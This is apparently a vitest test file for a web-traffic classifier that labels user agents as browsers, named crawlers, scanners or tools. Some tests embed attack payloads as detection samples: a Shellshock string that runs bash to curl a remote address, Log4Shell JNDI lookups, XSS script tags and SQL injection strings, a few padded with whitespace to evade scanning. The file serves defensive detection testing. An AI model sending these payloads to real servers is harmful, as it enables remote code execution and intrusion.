import { describe, expect, it } from 'vitest';
import { classify } from '../src/index.js';

const client = (userAgent: string | undefined, ip?: string) =>
  classify({ method: 'GET', path: '/', userAgent, ...(ip !== undefined ? { ip } : {}) }).client;

describe('client classification', () => {
  it('names browser, major version, OS and device for real users', () => {
    expect(
      client(
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
      ),
    ).toMatchObject({
      kind: 'human',
      browser: 'Chrome 120',
      os: 'Windows 10',
      device: 'desktop',
    });
    expect(
      client(
        'Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 Mobile Safari/537.36',
      ),
    ).toMatchObject({
      kind: 'human',
      os: 'Android 13',
      device: 'mobile',
    });
    expect(
      client(
        'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
      ),
    ).toMatchObject({
      kind: 'human',
      browser: 'Safari 17',
      os: 'macOS',
    });
    expect(
      client(
        'Mozilla/5.0 (iPad; CPU OS 7_0_4 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) Version/7.0 Mobile/11B554a Safari/9537.53',
      ),
    ).toMatchObject({
      kind: 'human',
      os: 'iOS 7',
      device: 'tablet',
    });
    expect(
      client('Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:27.0) Gecko/20100101 Firefox/27.0'),
    ).toMatchObject({ kind: 'human', browser: 'Firefox 27', os: 'Ubuntu' });
  });

  it.each([
    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Googlebot'],
    [
      'Mozilla/5.0 (iPhone; CPU iPhone OS 6_0 like Mac OS X) AppleWebKit/536.26 (KHTML, like Gecko) Version/6.0 Mobile/10A5376e Safari/8536.25 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
      'Googlebot',
    ],
    ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'bingbot'],
    ['Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)', 'Baiduspider'],
    ['Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', 'YandexBot'],
    ['Mozilla/5.0 (compatible; AhrefsBot/5.0; +http://ahrefs.com/robot/)', 'AhrefsBot'],
    ['Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)', 'MJ12bot'],
    ['msnbot/2.0b (+http://search.msn.com/msnbot.htm)', 'msnbot'],
    ['Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)', 'Yahoo! Slurp'],
    [
      'Mozilla/5.0 (compatible; archive.org_bot +http://www.archive.org/details/archive.org_bot)',
      'archive.org_bot',
    ],
    ['Twitterbot/1.0', 'Twitterbot'],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)',
      'GPTBot',
    ],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)',
      'ClaudeBot',
    ],
  ])('names the crawler in %s', (ua, name) => {
    expect(client(ua)).toMatchObject({ kind: 'crawler', name });
  });

  it('falls back to a product token for crawlers it has no name for', () => {
    expect(client('Mozilla/5.0 (compatible; SomeNewCrawler/0.3; +https://example.org/bot)')).toMatchObject({
      kind: 'crawler',
      name: 'SomeNewCrawler',
    });
    expect(client('magpie-crawler/1.1 (U; Linux amd64; en-GB; +http://www.brandwatch.net)')).toMatchObject({
      kind: 'crawler',
      name: 'magpie-crawler',
    });
  });

  it('calls a user agent that carries an exploit a scanner, whatever it claims to be', () => {
    for (const ua of [
      '<script>alert(1)</script>',
      '() { :; }; /bin/bash -c "curl http://198.51.100.9/x"',
      'Mozilla/5.0 (compatible; Googlebot/2.1) ${jndi:ldap://198.51.100.9/a}',
    ]) {
      expect(client(ua)).toEqual({ kind: 'scanner', reason: 'attack payload in the user agent' });
    }
  });

  it('calls a browser or crawler user agent padded past its first kilobyte to hide a payload a scanner too', () => {
    // Found by mutation testing: the payload's signal came through, but the client stayed a person (or a crawler).
    const chrome =
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
    const googlebot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
    const pad = ' '.repeat(1200);
    for (const [ua, id] of [
      [`${chrome}${pad}\${jndi:ldap://198.51.100.9/a}`, 'log4shell'],
      [`${googlebot}${pad}' or '1'='1`, 'sql-injection'],
      [`${chrome}${pad}<script>alert(1)</script>`, 'xss'],
    ] as const) {
      const r = classify({ method: 'GET', path: '/', userAgent: ua, ip: '66.249.66.1' });
      expect(r).toEqual({
        client: { kind: 'scanner', reason: 'attack payload in the user agent' },
        signals: [id],
      });
    }
    // A named scanner keeps its name.
    expect(client(`sqlmap/1.7${pad}\${jndi:ldap://198.51.100.9/a}`)).toMatchObject({
      kind: 'scanner',
      name: 'sqlmap',
    });
    // Padding alone is no payload.
    expect(client(`${chrome}${pad}x`)).toMatchObject({ kind: 'human', browser: 'Chrome 142' });
  });

  it('judges name and kind on the first kilobyte, and reads exploits up to 8 KB, as docs/traffic.md says', () => {
    const chrome =
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
    // A bot's name past the first kilobyte makes no crawler of a browser.
    expect(client(`${chrome} ${'x'.repeat(1100)} AcmeBot/1.0`)).toMatchObject({
      kind: 'human',
      browser: 'Chrome 142',
    });
    // A payload past 8 KB is not read.
    expect(
      classify({
        method: 'GET',
        path: '/',
        userAgent: `${chrome} ${'x'.repeat(9000)} <script>alert(1)</script>`,
      }),
    ).toMatchObject({ client: { kind: 'human', browser: 'Chrome 142' }, signals: [] });
  });

  it('finds a payload that straddles the first kilobyte of a user agent', () => {
    // Neither the first 1,024 characters nor the rest from 16 before that mark held all of it.
    const chrome =
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
    for (const [payload, id] of [
      ['information_schema', 'sql-injection'],
      ["' or 'aaaaaaaaaaaaaaaaaaaaaaaaa'='a", 'sql-injection'],
      ['" onmouseover="x" onerror=1', 'xss'],
    ] as const) {
      for (const at of [1000, 1007, 1010]) {
        const ua = `${chrome} ${'x'.repeat(at - chrome.length - 1)}${payload} ${'y'.repeat(100)}`;
        expect(classify({ method: 'GET', path: '/', userAgent: ua })).toEqual({
          client: { kind: 'scanner', reason: 'attack payload in the user agent' },
          signals: [id],
        });
      }
    }
  });

  it('does not take a payload for a product name', () => {
    expect(client('<script>alert(1)</script>').name).toBeUndefined();
    expect(client('() { :; }; /bin/bash -c "curl http://198.51.100.9/x"').name).toBeUndefined();
    expect(client('Mozilla/5.0 (X11; Linux x86_64) <img src=x onerror=alert(1)>').name).toBeUndefined();
  });

  it('says when a crawler address cannot be judged', () => {
    expect(
      client('Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', '1.2.3.4').reason,
    ).toContain('ranges unknown for this crawler');
    expect(
      client('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', '66.249.73.135')
        .reason,
    ).toContain('published Googlebot ranges');
    // Without an address a Googlebot is not verified (its 404s count as probing), and its reason says why.
    for (const ip of [undefined, '']) {
      expect(client('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ip)).toEqual({
        kind: 'crawler',
        name: 'Googlebot',
        reason: 'bot (isbot); no client address to check',
      });
    }
  });

  it('calls scanners scanners, by name', () => {
    expect(client('sqlmap/1.7.2#stable (https://sqlmap.org)')).toMatchObject({
      kind: 'scanner',
      name: 'sqlmap',
    });
    expect(
      client('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
    ).toMatchObject({ kind: 'scanner', name: 'Nmap Scripting Engine' });
    expect(client('Fuzz Faster U Fool v2.1.0')).toMatchObject({ kind: 'scanner', name: 'ffuf' });
  });

  it('calls HTTP libraries tools, of unknown kind', () => {
    expect(client('python-requests/2.31.0')).toMatchObject({
      kind: 'unknown',
      name: 'python-requests',
      reason: expect.stringMatching(/^tool:/),
    });
    expect(client('curl/8.5.0')).toMatchObject({ kind: 'unknown', name: 'curl' });
  });

  it('classifies headless Chrome and automation as unknown, consistently', () => {
    const ua =
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.28 Safari/537.36';
    const a = client(ua);
    expect(a).toMatchObject({
      kind: 'unknown',
      name: 'HeadlessChrome',
      reason: 'automation: headless browser',
    });
    expect(client(ua)).toEqual(a);
    expect(
      client(
        'Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1',
      ),
    ).toMatchObject({ kind: 'unknown', name: 'PhantomJS' });
  });

  it('treats a missing user agent as its own case', () => {
    expect(client(undefined)).toMatchObject({ kind: 'unknown', reason: 'empty user agent' });
    expect(client('   ')).toMatchObject({ kind: 'unknown', reason: 'empty user agent' });
    // `-` is how access logs write a request without the header.
    expect(classify({ method: 'GET', path: '/', userAgent: '-' })).toEqual({
      client: { kind: 'unknown', reason: 'empty user agent' },
      signals: ['empty-user-agent'],
    });
  });
});
